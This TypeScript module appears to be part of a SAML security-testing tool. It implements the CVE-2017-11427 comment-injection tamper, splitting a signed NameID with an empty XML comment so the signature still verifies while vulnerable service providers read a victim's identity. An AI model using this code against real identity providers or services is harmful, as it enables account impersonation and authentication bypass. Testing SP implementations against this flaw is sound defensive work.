import type { Element } from '@xmldom/xmldom';
import { NS } from '../namespaces.ts';
import { descendants } from '../safe-xml.ts';
import { parseGenuine, serialize } from './dom.ts';
import { resign } from './resign.ts';
import { type TamperContext, type TamperDef, TamperNotApplicable } from './types.ts';

/** The domain the attacker controls, appended to the target identity in the NameID the IdP signs. */
export const NAMEID_COMMENT_SUFFIX = '.evil.test';

/**
 * What the genuine Response must carry for nameid-comment: the attacker's own, legitimately issued
 * account whose name starts with the target identity, `victim@corp.test.evil.test` for
 * `victim@corp.test`.
 */
export function nameIdCommentGenuineNameId(target: string, suffix = NAMEID_COMMENT_SUFFIX): string {
  return `${target}${suffix}`;
}

function splitWithComment(el: Element, at: number): void {
  const doc = el.ownerDocument!;
  const value = el.textContent ?? '';
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(doc.createTextNode(value.slice(0, at)));
  el.appendChild(doc.createComment(''));
  el.appendChild(doc.createTextNode(value.slice(at)));
}

function startsWithTarget(n: Element, target: string): boolean {
  const v = n.textContent ?? '';
  return v.length > target.length && v.startsWith(target);
}

/**
 * The genuine Response as the IdP would issue it for the attacker's own account: NameID and the
 * attribute values that repeat it renamed to the target plus the attacker's domain, signed again
 * with the IdP key. Without that key the genuine Response must already be issued that way.
 */
function issuedForAttackerAccount(xml: string, ctx: TamperContext): string {
  const target = ctx.attackerNameId;
  const g = parseGenuine(xml, 'nameid-comment');
  if (descendants(g.response, NS.saml, 'NameID').some((n) => startsWithTarget(n, target))) return xml;
  if (!ctx.realKey) {
    throw new TamperNotApplicable(
      'nameid-comment',
      `no NameID starts with "${target}"; the genuine Response must be issued for "${nameIdCommentGenuineNameId(target)}" (or ctx.realKey given to issue it so)`,
    );
  }
  return resign(xml, 'nameid-comment', { signer: ctx.realKey, nameId: nameIdCommentGenuineNameId(target) });
}

/**
 * CVE-2017-11427 and its siblings: the IdP signs the attacker's real NameID
 * `victim@corp.test.evil.test`; an empty comment goes in after `victim@corp.test` (ctx.attackerNameId,
 * the identity to impersonate). Exclusive c14n without comments drops the comment, so the genuine
 * signature still verifies; a reader that takes the first text node sees `victim@corp.test`, one
 * that reads the whole text content (or the signed canonical form) sees the genuine value.
 * AttributeValues equal to the NameID (uid, email) are split the same way.
 */
export const nameIdComment: TamperDef = {
  name: 'nameid-comment',
  title: 'Comment inside the NameID truncates it for first-text-node readers; signature stays valid',
  source:
    'CVE-2017-11427 and related (Duo Security, "Duo Finds SAML Vulnerabilities Affecting Multiple Implementations", 2018)',
  needs: 'any',
  apply(xml, ctx) {
    const target = ctx.attackerNameId;
    const g = parseGenuine(issuedForAttackerAccount(xml, ctx), 'nameid-comment');
    const nameIds = descendants(g.response, NS.saml, 'NameID').filter((n) => startsWithTarget(n, target));
    const genuine = new Set(nameIds.map((n) => n.textContent ?? ''));
    const values = descendants(g.response, NS.saml, 'AttributeValue').filter((v) =>
      genuine.has(v.textContent ?? ''),
    );
    for (const el of [...nameIds, ...values]) splitWithComment(el, target.length);
    return serialize(g.doc);
  },
};
